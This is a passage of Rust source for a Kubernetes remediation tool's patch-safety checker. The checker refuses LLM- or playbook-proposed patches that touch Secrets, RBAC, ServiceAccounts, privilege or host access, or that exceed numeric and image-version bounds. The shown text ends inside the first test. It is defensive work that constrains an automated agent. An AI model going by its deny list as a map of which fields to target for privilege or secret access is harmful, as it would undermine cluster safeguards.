//! The patch-safety check: a pure verdict over any proposal, whoever wrote it (a playbook
//! or an LLM), before the dry-run and before any gate.
//!
//! Contract: [`check`] judges a patch by its *effect*: it applies the patch to the target as
//! read and compares the two objects leaf by leaf (list items matched by their merge keys,
//! shown as `[*]`), so no patch format, directive or JSON-patch trick can hide a change. The
//! verdict lists every reason a proposal is refused, not only the first. What is allowed
//! comes from [`Rules`] — built from the playbook and policy alone, never from the proposal,
//! an alert, a log line or a tool output, so nothing an author writes can widen it. Always
//! refused, whatever the rules say: another object or namespace, kinds outside the ones
//! Reflex fixes (Secrets, RBAC, ServiceAccounts, webhooks, CRDs, namespaces), privilege
//! and host access, ServiceAccount changes, Secret references, renames and namespace moves,
//! a different image repository, and oversize patches. Sensitive fields (labels and
//! annotations, volumes, `envFrom`, probes, lifecycle hooks, scheduling fields, the
//! ServiceAccount token mount, `spec.paused`) change only where an allowed path names them
//! itself; a path segment is one whole key. Command changes need [`Rules::allow_command`];
//! numeric changes stay within a factor of the current value and under any ceiling, and a
//! workload's total capacity (replicas × per-Pod requests) within the same factor; text
//! changes only where a [`ValueRule`] constrains it. With no playbook
//! ([`Rules::default_for`]) nothing is allowed but existing CPU, memory and replica values
//! within factor and ceiling and a strictly newer image tag. [`effect`] judges any
//! before/after pair the same way — CI applies it to the object the API server's dry-run
//! answers with.

use serde_json::Value;

use super::image::{repository, tag_of, valid_repository, valid_tag, version_of};
use super::merge::{ListType, Lists, list_type, same_key, strategic_merge};
use crate::api::playbook::{ParameterType, PatchType};
use crate::api::validate::{ValidPlaybook, ValueRule};

mod diff;
mod paths;

pub use diff::*;
pub use paths::*;

/// Largest patch accepted (serialized JSON).
pub const MAX_PATCH_BYTES: usize = 16 * 1024;
/// Largest ratio between a numeric value and the one it replaces, either way, unless the
/// playbook declares its own.
pub const DEFAULT_MAX_FACTOR: f64 = 4.0;

/// Kinds Reflex may change.
const FIXABLE_KINDS: &[&str] = &["Deployment", "StatefulSet", "DaemonSet", "ConfigMap", "HorizontalPodAutoscaler"];

/// Kinds never changed, named so the refusal says why.
const FORBIDDEN_KINDS: &[(&str, &str)] = &[
    ("Secret", "Secrets"),
    ("ServiceAccount", "ServiceAccounts"),
    ("Role", "RBAC"),
    ("RoleBinding", "RBAC"),
    ("ClusterRole", "RBAC"),
    ("ClusterRoleBinding", "RBAC"),
    ("MutatingWebhookConfiguration", "admission webhooks"),
    ("ValidatingWebhookConfiguration", "admission webhooks"),
    ("ValidatingAdmissionPolicy", "admission policy"),
    ("ValidatingAdmissionPolicyBinding", "admission policy"),
    ("CustomResourceDefinition", "CRDs"),
    ("Namespace", "namespaces"),
];

/// What a proposal may change: from the playbook (and policy), never from the proposal.
#[derive(Clone, Debug, PartialEq)]
pub struct Rules {
    /// Field paths that may change (`a.b[*].c`; a path allows everything under it, one whole
    /// key per segment: `data.POOL` allows the key `POOL`, not `POOL.x`).
    pub allowed_paths: Vec<String>,
    /// Largest ratio between a numeric value and the one it replaces, either way.
    pub max_factor: f64,
    /// Absolute ceilings by field path, in base units (bytes, cores, replicas).
    pub ceilings: Vec<(String, f64)>,
    /// What a field's new value may be, by exact field path. Text (anything not a number or
    /// an image) changes only where one of these constrains it.
    pub values: Vec<(String, ValueRule)>,
    /// Whether a container's `command`/`args` may change.
    pub allow_command: bool,
    /// Whether a field that is not set yet may be added (a playbook's own paths: yes; the
    /// defaults for a kind: never).
    pub new_fields: bool,
    /// Whether an image tag must be a strictly newer version of the same variant.
    pub newer_images: bool,
    /// Largest growth of a workload's total capacity (replicas × per-Pod requests), CPU and
    /// memory each, in one proposal.
    pub max_capacity_factor: f64,
    /// Largest patch, serialized.
    pub max_patch_bytes: usize,
}

/// A number as a field holds it: any Kubernetes quantity under `resources` (`512Mi`, `250m`,
/// `1e3`), elsewhere only a plain decimal (`40`, `-2.5`) — text such as `40000m` or `0010`
/// that a quantity parser reads as a small number means something else to the program that
/// reads it, and is text.
fn numeric_at(segments: &[String], v: &Value) -> Option<f64> {
    match v {
        Value::Number(n) => n.as_f64(),
        Value::String(s) if segments.iter().any(|seg| seg == "resources") => number(v),
        Value::String(s) => {
            let digits = s.strip_prefix('-').unwrap_or(s);
            // An integer part without a leading zero (`0010` is octal to a shell), then an
            // optional fraction.
            let integer =
                |i: &str| !i.is_empty() && i.bytes().all(|b| b.is_ascii_digit()) && (i == "0" || !i.starts_with('0'));
            let plain = digits
                .split_once('.')
                .map_or(integer(digits), |(i, f)| integer(i) && !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()));
            plain.then(|| s.parse::<f64>().ok()).flatten()
        }
        _ => None,
    }
}

/// Whether `v`, the new value at the field `segments` names, satisfies `rule` (a range is
/// judged on the number as that field holds it: [`numeric_at`]).
fn admits(rule: &ValueRule, segments: &[String], v: &Value) -> bool {
    let text = match v {
        Value::String(s) => s.clone(),
        Value::Number(n) => n.to_string(),
        _ => return false,
    };
    match rule {
        ValueRule::OneOf(allowed) => allowed.contains(&text),
        ValueRule::Pattern(p) => regex::Regex::new(&format!("^(?:{p})$")).is_ok_and(|re| re.is_match(&text)),
        ValueRule::Range { min, max } => {
            numeric_at(segments, v).is_some_and(|n| min.is_none_or(|m| n >= m) && max.is_none_or(|m| n <= m))
        }
    }
}

/// An RFC 3339 UTC timestamp, as `{{ now }}` renders.
const TIMESTAMP: &str = r"\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}(\.\d{1,9})?Z";

impl Default for Rules {
    fn default() -> Self {
        Self {
            allowed_paths: Vec::new(),
            max_factor: DEFAULT_MAX_FACTOR,
            ceilings: Vec::new(),
            values: Vec::new(),
            allow_command: false,
            new_fields: true,
            newer_images: false,
            max_capacity_factor: DEFAULT_MAX_FACTOR,
            max_patch_bytes: MAX_PATCH_BYTES,
        }
    }
}

impl Rules {
    /// The playbook's allowance: its `allowedPaths`; each parameter's ceiling (`max`) and
    /// factor (`maxFactor`) at every field its template puts that parameter in; the
    /// smallest declared factor for other numeric fields and for the growth of total
    /// capacity; the values its template can produce (a parameter's allowed list or range,
    /// the template's own literal text, `{{ now }}` as a timestamp) and those its
    /// `patch.values` constrain.
    pub fn from_playbook(pb: &ValidPlaybook) -> Self {
        Self::from_playbook_in(pb, &|_| None)
    }

    /// [`Rules::from_playbook`] for one run: placeholders other than parameters
    /// (`{{ labels.key }}`, `{{ target.name }}`) resolved by `lookup` first, so a ceiling is
    /// found at a field whose name comes from the alert. Unresolved placeholders stay as written.
    pub fn from_playbook_in(pb: &ValidPlaybook, lookup: &dyn Fn(&str) -> Option<String>) -> Self {
        let mut rules = Self { allowed_paths: pb.allowed_paths.clone(), ..Self::default() };
        if let Some(f) = pb.parameters.iter().filter_map(|p| p.max_factor).reduce(f64::min) {
            rules.max_factor = f;
        }
        rules.max_capacity_factor = rules.max_factor;
        rules.newer_images = pb.parameters.iter().any(|p| p.type_ == ParameterType::Image && p.newer);
        rules.values = pb.values.iter().map(|(path, rule)| (path.clone(), rule.clone())).collect();
        let template = match pb.template.as_deref().map(|t| template_tree(t, lookup)) {
            // A template that is not YAML renders nothing: allow nothing rather than judge
            // without its ceilings.
            Some(None) => return Self { allowed_paths: Vec::new(), ..rules },
            Some(Some(tree)) => Some(tree),
            None => None,
        };
        if let Some(template) = template {
            let mut placed: Vec<(String, String)> = Vec::new();
            each_path(&template, &mut String::new(), &mut |path, v| {
                if let Value::String(text) = v {
                    placed.push((path.to_owned(), text.clone()));
                }
            });
            for p in &pb.parameters {
                let needle = format!("params.{}", p.name);
                let names_it = |text: &str| {
                    text.match_indices(&needle).any(|(i, _)| {
                        !text[i + needle.len()..]
                            .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_' || c == '-')
                    })
                };
                for (path, text) in &placed {
                    if !names_it(text) {
                        continue;
                    }
                    if let Some(max) = p.max {
                        rules.ceilings.push((path.clone(), max));
                    }
                    let whole = text.trim().strip_prefix("{{").and_then(|t| t.strip_suffix("}}")).map(str::trim);
                    if whole != Some(needle.as_str()) {
                        continue;
                    }
                    match p.type_ {
                        ParameterType::String => rules.values.push((path.clone(), ValueRule::OneOf(p.allowed.clone()))),
                        ParameterType::Image => {}
                        _ => rules.values.push((path.clone(), ValueRule::Range { min: p.min, max: p.max })),
                    }
                }
            }
            for (path, text) in &placed {
                let rule = if !text.contains("{{") {
                    Some(ValueRule::OneOf(vec![text.clone()]))
                } else if text.trim().strip_prefix("{{").and_then(|t| t.strip_suffix("}}")).map(str::trim)
                    == Some("now")
                {
                    Some(ValueRule::Pattern(TIMESTAMP.to_owned()))
                } else {
                    None
                };
                rules.values.extend(rule.map(|r| (path.clone(), r)));
            }
        }
        rules
    }
}

/// Default ceilings for a kind with no playbook: per container (bytes, cores) and replicas.
const DEFAULT_MEMORY_CEILING: f64 = 16.0 * 1024.0 * 1024.0 * 1024.0;
const DEFAULT_CPU_CEILING: f64 = 8.0;
const DEFAULT_REPLICAS_CEILING: f64 = 20.0;
const DEFAULT_AUTOSCALER_CEILING: f64 = 50.0;

impl Rules {
    /// When no playbook bounds the agent (`llm` mode), deny by default: only the fields an
    /// automated fix is expected to touch for `kind` — a container's CPU and memory requests
    /// and limits, its image (a strictly newer tag of the same repository and variant), the
    /// replica count — each already set (no new field), within the default factor and a
    /// ceiling, and the total capacity within the same factor. No text anywhere: ConfigMap
    /// data, env values, labels and annotations need a playbook that names the key and
    /// constrains its value.
    pub fn default_for(kind: &str) -> Self {
        let c = "spec.template.spec.containers[*]";
        let resources: Vec<(String, f64)> = ["limits", "requests"]
            .iter()
            .flat_map(|l| {
                [
                    (format!("{c}.resources.{l}.memory"), DEFAULT_MEMORY_CEILING),
                    (format!("{c}.resources.{l}.cpu"), DEFAULT_CPU_CEILING),
                ]
            })
            .collect();
        let (paths, ceilings): (Vec<String>, Vec<(String, f64)>) = match kind {
            "Deployment" | "StatefulSet" => {
                let mut ceilings = resources;
                ceilings.push(("spec.replicas".into(), DEFAULT_REPLICAS_CEILING));
                let mut paths: Vec<String> = ceilings.iter().map(|(p, _)| p.clone()).collect();
                paths.push(format!("{c}.image"));
                (paths, ceilings)
            }
            "DaemonSet" => {
                let mut paths: Vec<String> = resources.iter().map(|(p, _)| p.clone()).collect();
                paths.push(format!("{c}.image"));
                (paths, resources)
            }
            "HorizontalPodAutoscaler" => {
                let ceilings = vec![
                    ("spec.minReplicas".to_owned(), DEFAULT_AUTOSCALER_CEILING),
                    ("spec.maxReplicas".to_owned(), DEFAULT_AUTOSCALER_CEILING),
                ];
                (ceilings.iter().map(|(p, _)| p.clone()).collect(), ceilings)
            }
            // ConfigMaps hold free text: a playbook must name the keys and bound their values.
            _ => (Vec::new(), Vec::new()),
        };
        Self { allowed_paths: paths, ceilings, new_fields: false, newer_images: true, ..Self::default() }
    }
}

/// The template as a tree, with `{{ name }}` (in keys and string values) replaced by
/// `lookup(name)` where that is inert (letters, digits, `_ . : / -`) and kept as written
/// otherwise (parameters, so their placements can be found). Placeholders are swapped for
/// plain markers before parsing, as the renderer does, so no value and no unquoted
/// placeholder can change or break the YAML; `None` when the template is not YAML.
fn template_tree(template: &str, lookup: &dyn Fn(&str) -> Option<String>) -> Option<Value> {
    const MARK: &str = "__reflex_rule_";
    let mut marked = String::with_capacity(template.len());
    let mut names = Vec::new();
    let mut rest = template;
    while let Some(open) = rest.find("{{") {
        let Some(close) = rest[open..].find("}}") else { break };
        marked.push_str(&rest[..open]);
        marked.push_str(&format!("{MARK}{}__", names.len()));
        names.push(rest[open + 2..open + close].trim().to_owned());
        rest = &rest[open + close + 2..];
    }
    marked.push_str(rest);
    let resolve = |text: &str| -> String {
        let mut out = text.to_owned();
        // Longest index first, so marker 1 does not match inside marker 10.
        for (i, name) in names.iter().enumerate().rev() {
            let token = format!("{MARK}{i}__");
            if out.contains(&token) {
                let value = lookup(name).filter(|v| !name.starts_with("params.") && inert(v));
                out = out.replace(&token, &value.unwrap_or_else(|| format!("{{{{ {name} }}}}")));
            }
        }
        out
    };
    fn walk(v: Value, resolve: &dyn Fn(&str) -> String) -> Value {
        match v {
            Value::String(s) => Value::String(resolve(&s)),
            Value::Array(items) => Value::Array(items.into_iter().map(|i| walk(i, resolve)).collect()),
            Value::Object(m) => Value::Object(m.into_iter().map(|(k, v)| (resolve(&k), walk(v, resolve))).collect()),
            other => other,
        }
    }
    let tree: Value = serde_saphyr::from_str(&marked).ok()?;
    Some(walk(tree, &resolve))
}

/// Can `v` be pasted into an expression, a query or a field name without changing its
/// meaning? (letters, digits, `_ . : / -`, at most 253 bytes)
pub fn inert(v: &str) -> bool {
    v.len() <= 253 && v.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '.' | ':' | '/' | '-'))
}

/// The object a Remediation is allowed to change.
#[derive(Clone, Debug, PartialEq)]
pub struct Target<'a> {
    pub kind: &'a str,
    pub namespace: &'a str,
    pub name: &'a str,
}

/// A proposal as its author wrote it.
#[derive(Clone, Debug)]
pub struct Proposed<'a> {
    pub target: Target<'a>,
    pub patch_type: PatchType,
    pub patch: &'a Value,
}

/// Why a proposal is refused. Each says what a human would need to change.
#[derive(Clone, Debug, PartialEq, thiserror::Error)]
pub enum Refusal {
    #[error("the patch is {bytes} bytes; at most {max}")]
    Oversize { bytes: usize, max: usize },
    #[error("the patch targets {proposed}, but this remediation may only change {allowed}")]
    WrongTarget { proposed: String, allowed: String },
    #[error("the patch targets namespace {proposed:?}, but this remediation may only act in {allowed:?}")]
    WrongNamespace { proposed: String, allowed: String },
    #[error("{kind} objects are never changed by Reflex ({what})")]
    ForbiddenKind { kind: String, what: &'static str },
    #[error(
        "kind {0} is not one Reflex fixes (Deployment, StatefulSet, DaemonSet, ConfigMap, HorizontalPodAutoscaler)"
    )]
    KindNotFixable(String),
    #[error("the patch does not apply to the target: {0}")]
    DoesNotApply(String),
    #[error("the patch changes nothing")]
    NoChange,
    #[error("{path}: {why} is never allowed")]
    Forbidden { path: String, why: &'static str },
    #[error("{path}: changing a container's command or arguments is not allowed by this playbook")]
    Command { path: String },
    #[error("{path}: image repository {from:?} → {to:?}; only a new tag of the same repository is allowed")]
    ImageRepository { path: String, from: String, to: String },
    #[error("{path} is not among the fields this playbook may change ({allowed})")]
    PathNotAllowed { path: String, allowed: String },
    #[error("{path}: {from} → {to} is more than {factor}x the current value")]
    Factor { path: String, from: String, to: String, factor: f64 },
    #[error("{path}: {to} is over the ceiling {ceiling}")]
    Ceiling { path: String, to: String, ceiling: f64 },
    #[error("{path}: a bounded number becomes {to}, which the bounds cannot judge")]
    NotNumeric { path: String, to: String },
    #[error("{path}: a new numeric value ({to}) with nothing to compare it to and no ceiling")]
    Unbounded { path: String, to: String },
    #[error("{path}: {why} changes only where a playbook's allowedPaths names this field itself")]
    Sensitive { path: String, why: &'static str },
    #[error("{path} is not set on the target; without a playbook that names it, no field is added")]
    NewField { path: String },
    #[error("{path}: {to:?} is free text; text changes only where a playbook constrains the value (patch.values)")]
    FreeText { path: String, to: String },
    #[error("{path}: {to} is not {rule}, as the playbook requires")]
    Value { path: String, to: String, rule: String },
    #[error("{path}: {why}")]
    ImageVersion { path: String, why: String },
    #[error("{path}: removing a value the playbook constrains; change it within its rule instead")]
    Removed { path: String },
    #[error("total {resource} capacity (replicas × per-Pod requests) {from} → {to} is more than {factor}x")]
    Capacity { resource: &'static str, from: String, to: String, factor: f64 },
}

/// Every reason a proposal is refused; empty when it passes.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Verdict {
    pub refusals: Vec<Refusal>,
}

impl Verdict {
    pub fn allowed(&self) -> bool {
        self.refusals.is_empty()
    }

    /// The refusals a rollback must never meet: all but those about where an undo may land
    /// (ceilings, capacity, image versions, a removed constrained value, no change). A genuine
    /// undo moves a value back by no more than the factor the change itself passed, so the
    /// factor holds for it too — a status edited to restore something else is refused.
    pub fn fixed(&self) -> Vec<&Refusal> {
        self.refusals
            .iter()
            .filter(|r| {
                !matches!(
                    r,
                    Refusal::Removed { .. }
                        | Refusal::Ceiling { .. }
                        | Refusal::Unbounded { .. }
                        | Refusal::NoChange
                        | Refusal::Capacity { .. }
                        | Refusal::ImageVersion { .. }
                )
            })
            .collect()
    }

    /// The reasons, one per line, for status and Events.
    pub fn summary(&self) -> String {
        self.refusals.iter().map(ToString::to_string).collect::<Vec<_>>().join("; ")
    }
}

/// One changed leaf: its path (list items as `[*]`) and the values before and after.
#[derive(Clone, Debug, PartialEq)]
pub struct Change {
    /// The path shown: segments joined by `.`.
    pub path: String,
    /// The path's segments: one object key each (a key may hold dots, as annotation keys
    /// do), a list item as `[*]` on its list's segment.
    pub segments: Vec<String>,
    pub from: Option<Value>,
    pub to: Option<Value>,
}

impl Change {
    fn at(segments: &[String], from: Option<&Value>, to: Option<&Value>) -> Self {
        Self { path: segments.join("."), segments: segments.to_vec(), from: from.cloned(), to: to.cloned() }
    }
}

/// Judge `proposed` against the `allowed` target (as `current`, read from the cluster).
pub fn check(rules: &Rules, allowed: &Target<'_>, current: &Value, proposed: &Proposed<'_>) -> Verdict {
    let mut refusals = Vec::new();
    let bytes = proposed.patch.to_string().len();
    if bytes > rules.max_patch_bytes {
        refusals.push(Refusal::Oversize { bytes, max: rules.max_patch_bytes });
    }
    let p = &proposed.target;
    if let Some((_, what)) = FORBIDDEN_KINDS.iter().find(|(k, _)| *k == p.kind) {
        refusals.push(Refusal::ForbiddenKind { kind: p.kind.to_owned(), what });
    } else if !FIXABLE_KINDS.contains(&p.kind) {
        refusals.push(Refusal::KindNotFixable(p.kind.to_owned()));
    }
    if p.namespace != allowed.namespace {
        refusals
            .push(Refusal::WrongNamespace { proposed: p.namespace.to_owned(), allowed: allowed.namespace.to_owned() });
    }
    if p.kind != allowed.kind || p.name != allowed.name {
        refusals.push(Refusal::WrongTarget {
            proposed: format!("{} {}", p.kind, p.name),
            allowed: format!("{} {}", allowed.kind, allowed.name),
        });
    }
    if !refusals.is_empty() {
        // Another object's changes mean nothing against this one: stop here.
        return Verdict { refusals };
    }
    let after = match apply(proposed.patch_type, current, proposed.patch) {
        Ok(after) => after,
        Err(e) => {
            refusals.push(Refusal::DoesNotApply(e));
            return Verdict { refusals };
        }
    };
    // Field ownership is the server's record; a patch that rewrites it (a merge or JSON patch
    // may) hands fields to another manager, whose next apply removes them.
    if current.pointer("/metadata/managedFields") != after.pointer("/metadata/managedFields") {
        refusals.push(Refusal::Forbidden { path: "metadata.managedFields".into(), why: "rewriting field ownership" });
    }
    refusals.extend(effect(rules, p.kind, current, &after).refusals);
    Verdict { refusals }
}

/// Fields the API server keeps for itself: not part of a change's effect.
const SERVER_FIELDS: &[&str] =
    &["resourceVersion", "generation", "managedFields", "uid", "creationTimestamp", "selfLink"];

/// Judge the effect `before` → `after` of a change to a `kind` object, leaf by leaf, as
/// [`check`] does for the object it computes — here also for the object the API server
/// answers a dry-run with, so no difference between the emulated merge and the server's
/// (directives, merge keys, server-side apply's field removal, defaulting) passes unjudged.
/// The fields the server keeps for itself (`status`, `metadata.resourceVersion`,
/// `generation`, `managedFields`, …) are not part of the effect.
pub fn effect(rules: &Rules, kind: &str, before: &Value, after: &Value) -> Verdict {
    let strip = |v: &Value| {
        let mut v = v.clone();
        if let Some(m) = v.as_object_mut() {
            m.remove("status");
            if let Some(meta) = m.get_mut("metadata").and_then(Value::as_object_mut) {
                for f in SERVER_FIELDS {
                    meta.remove(*f);
                }
            }
        }
        v
    };
    let (before, after) = (strip(before), strip(after));
    let mut refusals = Vec::new();
    let changes = diff(&before, &after);
    if changes.is_empty() {
        refusals.push(Refusal::NoChange);
    }
    for change in &changes {
        judge(rules, change, &mut refusals);
    }
    capacity_growth(rules, kind, &before, &after, &mut refusals);
    Verdict { refusals }
}

/// Per-Pod requests of a workload's template, CPU (cores) and memory (bytes): the sum over
/// its containers, or its largest init container if that is more (as the scheduler counts);
/// a container's request defaults to its limit.
fn per_pod(obj: &Value) -> [f64; 2] {
    let request = |c: &Value, r: &str| {
        let res = c.get("resources");
        let at = |k: &str| res.and_then(|x| x.get(k)).and_then(|x| x.get(r)).and_then(number);
        at("requests").or_else(|| at("limits")).unwrap_or(0.0)
    };
    let list = |k: &str| {
        obj.pointer(&format!("/spec/template/spec/{k}")).and_then(Value::as_array).cloned().unwrap_or_default()
    };
    let (containers, init) = (list("containers"), list("initContainers"));
    ["cpu", "memory"].map(|r| {
        let sum: f64 = containers.iter().map(|c| request(c, r)).sum();
        init.iter().map(|c| request(c, r)).fold(sum, f64::max)
    })
}

/// The growth of a workload's total capacity — replicas × per-Pod requests — bounded as one:
/// four times the replicas and four times the memory is sixteen times the capacity.
fn capacity_growth(rules: &Rules, kind: &str, before: &Value, after: &Value, refusals: &mut Vec<Refusal>) {
    if !matches!(kind, "Deployment" | "StatefulSet" | "DaemonSet") {
        return;
    }
    let replicas = |o: &Value| {
        if kind == "DaemonSet" { 1.0 } else { o.pointer("/spec/replicas").and_then(Value::as_f64).unwrap_or(1.0) }
    };
    let (b, a) = (per_pod(before), per_pod(after));
    for (i, resource) in ["CPU", "memory"].into_iter().enumerate() {
        let (from, to) = (replicas(before) * b[i], replicas(after) * a[i]);
        // Nothing requested before: no capacity to compare with (the fields' own bounds apply).
        if from > 0.0 && to > from * (rules.max_capacity_factor + 1e-9) {
            let shown = |v: f64| if i == 0 { format!("{v} cores") } else { format!("{:.0}Mi", v / 1048576.0) };
            refusals.push(Refusal::Capacity {
                resource,
                from: shown(from),
                to: shown(to),
                factor: rules.max_capacity_factor,
            });
        }
    }
}

/// The target after the patch, as the API server would compute it.
pub fn apply(patch_type: PatchType, current: &Value, patch: &Value) -> Result<Value, String> {
    if !patch.is_object() && patch_type != PatchType::Json {
        return Err("a merge patch must be a JSON object".into());
    }
    match patch_type {
        PatchType::Strategic => strategic_merge(current, patch),
        PatchType::Merge => {
            let mut out = current.clone();
            json_patch::merge(&mut out, patch);
            Ok(out)
        }
        PatchType::Json => {
            let ops: json_patch::Patch =
                serde_json::from_value(patch.clone()).map_err(|e| format!("not a JSON patch: {e}"))?;
            let mut out = current.clone();
            json_patch::patch(&mut out, &ops).map_err(|e| e.to_string())?;
            Ok(out)
        }
    }
}

/// An image change: the same repository, a valid reference, and — when the rules say so —
/// a strictly newer version of the same variant.
fn judge_image(rules: &Rules, change: &Change) -> Option<Refusal> {
    let path = change.path.clone();
    let (from, to) = match (&change.from, &change.to) {
        (Some(Value::String(from)), Some(Value::String(to))) => (from, to),
        (None, Some(_)) => return Some(Refusal::Forbidden { path, why: "a new image where there was none" }),
        (_, None) => return Some(Refusal::Forbidden { path, why: "removing an image" }),
        (_, Some(to)) => return Some(Refusal::FreeText { path, to: to.to_string() }),
    };
    if repository(from) != repository(to) {
        return Some(Refusal::ImageRepository { path, from: from.clone(), to: to.clone() });
    }
    let reference_ok = valid_repository(repository(to))
        && match to.split_once('@') {
            Some((_, digest)) => digest
                .split_once(':')
                .is_some_and(|(alg, hex)| !alg.is_empty() && hex.chars().all(|c| c.is_ascii_hexdigit())),
            None => tag_of(to).is_none_or(valid_tag),
        };
    if !reference_ok {
        return Some(Refusal::ImageVersion { path, why: format!("{to:?} is not a valid image reference") });
    }
    if !rules.newer_images {
        return None;
    }
    match (tag_of(from).and_then(version_of), tag_of(to).and_then(version_of)) {
        (Some((old, old_variant)), Some((new, new_variant))) => {
            if old_variant != new_variant {
                Some(Refusal::ImageVersion {
                    path,
                    why: format!("{from:?} → {to:?} changes the image variant ({old_variant:?} → {new_variant:?})"),
                })
            } else if new <= old {
                Some(Refusal::ImageVersion { path, why: format!("{from:?} → {to:?} is not a newer version") })
            } else {
                None
            }
        }
        _ => Some(Refusal::ImageVersion {
            path,
            why: format!("{from:?} → {to:?}: only a tag that is a version (1.4.2) can be judged newer"),
        }),
    }
}

fn judge(rules: &Rules, change: &Change, refusals: &mut Vec<Refusal>) {
    let path = change.path.as_str();
    // The changed field, and everything inside a value that is a whole subtree (an atomic
    // list, a new list item): never-allowed fields anywhere in it, and sensitive ones unless
    // an allowed path names them.
    let mut inner = vec![change.segments.clone()];
    if let Some(to) = &change.to {
        each_segments(to, &mut change.segments.clone(), &mut |segs| inner.push(segs.to_vec()));
    }
    if let Some((segs, why)) = inner.iter().find_map(|segs| forbidden(segs).map(|why| (segs, why))) {
        refusals.push(Refusal::Forbidden { path: segs.join("."), why });
        return;
    }
    for segs in &inner {
        if let Some((i, why)) = sensitive(segs)
            && covering(segs, &rules.allowed_paths).is_none_or(|k| k <= i)
        {
            refusals.push(Refusal::Sensitive { path: segs.join("."), why });
            return;
        }
    }
    let last = change.segments.last().map(|s| s.trim_end_matches("[*]")).unwrap_or("");
    let command = last == "command" || last == "args";
    if command && !rules.allow_command {
        refusals.push(Refusal::Command { path: path.to_owned() });
        return;
    }
    let image = last == "image" && !change.to.as_ref().is_some_and(Value::is_object);
    if image && let Some(refusal) = judge_image(rules, change) {
        refusals.push(refusal);
        return;
    }
    if covering(&change.segments, &rules.allowed_paths).is_none() {
        let allowed = if rules.allowed_paths.is_empty() { "none".to_owned() } else { rules.allowed_paths.join(", ") };
        refusals.push(Refusal::PathNotAllowed { path: path.to_owned(), allowed });
        return;
    }
    if change.from.is_none() && change.to.is_some() && !rules.new_fields {
        refusals.push(Refusal::NewField { path: path.to_owned() });
        return;
    }
    let shown = |v: &Option<Value>| {
        v.as_ref().map(|v| v.as_str().map_or_else(|| v.to_string(), str::to_owned)).unwrap_or_default()
    };
    let rule = rules.values.iter().filter(|(p, _)| p == path).map(|(_, r)| r).next();
    // Text is judged by the playbook's constraint, or not allowed at all (an image is judged
    // as an image; a command only where the rules allow commands).
    let exempt = image || (command && rules.allow_command);
    match (rule, &change.to) {
        (Some(rule), Some(to)) if !to.is_object() && !admits(rule, &change.segments, to) => {
            refusals.push(Refusal::Value { path: path.to_owned(), to: shown(&change.to), rule: rule.to_string() });
            return;
        }
        // A value the playbook constrains is changed, not removed (its program's default is
        // no value the rule allowed).
        (Some(_), None) if change.from.is_some() => {
            refusals.push(Refusal::Removed { path: path.to_owned() });
            return;
        }
        (None, Some(to)) if !exempt => {
            if let Some(text) = free_text(&change.segments, to, true) {
                refusals.push(Refusal::FreeText { path: path.to_owned(), to: text.chars().take(80).collect() });
                return;
            }
        }
        _ => {}
    }
    let to = change.to.as_ref().and_then(|v| numeric_at(&change.segments, v));
    let from = change.from.as_ref().and_then(|v| numeric_at(&change.segments, v));
    let ceiling = rules.ceilings.iter().filter(|(p, _)| p == path).map(|(_, c)| *c).reduce(f64::min);
    let Some(to_n) = to else {
        match (&change.to, from.or(ceiling)) {
            // A bounded number removed (an unlimited limit) or replaced by something that is
            // not a number (which the bound could not judge).
            (None, Some(_)) if from.is_some() => {
                refusals.push(Refusal::NotNumeric { path: path.to_owned(), to: "nothing (removed)".into() })
            }
            (Some(v), Some(_)) if !v.is_object() && !v.is_array() => {
                refusals.push(Refusal::NotNumeric { path: path.to_owned(), to: v.to_string() });
            }
            _ => {}
        }
        return;
    };
    if let Some(c) = ceiling
        && to_n > c
    {
        refusals.push(Refusal::Ceiling { path: path.to_owned(), to: shown(&change.to), ceiling: c });
    }
    match from {
        Some(from_n) if from_n > 0.0 => {
            let ratio = if to_n >= from_n {
                to_n / from_n
            } else if to_n > 0.0 {
                from_n / to_n
            } else {
                f64::INFINITY
            };
            if ratio > rules.max_factor + 1e-9 {
                refusals.push(Refusal::Factor {
                    path: path.to_owned(),
                    from: shown(&change.from),
                    to: shown(&change.to),
                    factor: rules.max_factor,
                });
            }
        }
        _ if ceiling.is_none() && !matches!(rule, Some(ValueRule::Range { max: Some(_), .. })) => {
            refusals.push(Refusal::Unbounded { path: path.to_owned(), to: shown(&change.to) });
        }
        _ => {}
    }
}

/// A number or a Kubernetes quantity (`512Mi`, `250m`), in base units.
pub fn number(v: &Value) -> Option<f64> {
    match v {
        Value::Number(n) => n.as_f64(),
        Value::String(s) => crate::api::quantity::parse_quantity(s).ok(),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    const TARGET: Target<'static> = Target { kind: "Deployment", namespace: "shop", name: "checkout" };
    const C: &str = "spec.template.spec.containers[*]";

    fn current() -> Value {
        json!({"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "checkout", "namespace": "shop"},
            "spec": {"replicas": 2, "template": {"spec": {"containers": [{"name": "app",
                "image": "registry.local:5000/shop/checkout:1.4.0", "command": ["/checkout"],
                "resources": {"limits": {"memory": "256Mi", "cpu": "500m"}},
                "env": [{"name": "POOL_SIZE", "value": "10"}]}]}}}})
    }

    fn rules() -> Rules {
        Rules {
            allowed_paths: vec![
                format!("{C}.resources.limits.memory"),
                format!("{C}.image"),
                format!("{C}.env[*].value"),
                "spec.replicas".into(),
            ],
            max_factor: 2.0,
            ceilings: vec![(format!("{C}.resources.limits.memory"), 1024.0 * 1024.0 * 1024.0)],
            ..Rules::default()
        }
    }

    fn verdict_as(patch_type: PatchType, patch: Value) -> Verdict {
        check(&rules(), &TARGET, &current(), &Proposed { target: TARGET, patch_type, patch: &patch })
    }

    fn verdict(patch: Value) -> Verdict {
        verdict_as(PatchType::Strategic, patch)
    }

    fn container(fields: Value) -> Value {
        let mut c = json!({"name": "app"});
        c.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        json!({"spec": {"template": {"spec": {"containers": [c]}}}})
    }

    fn has(v: &Verdict, pred: impl Fn(&Refusal) -> bool) -> bool {
        v.refusals.iter().any(pred)
    }

    #[test]
    fn a_bounded_change_to_an_allowed_field_passes() {
        let v = verdict(container(json!({"resources": {"limits": {"memory": "512Mi"}}})));
        assert!(v.allowed(), "{}", v.summary());
        assert!(verdict(json!({"spec": {"replicas": 4}})).allowed());
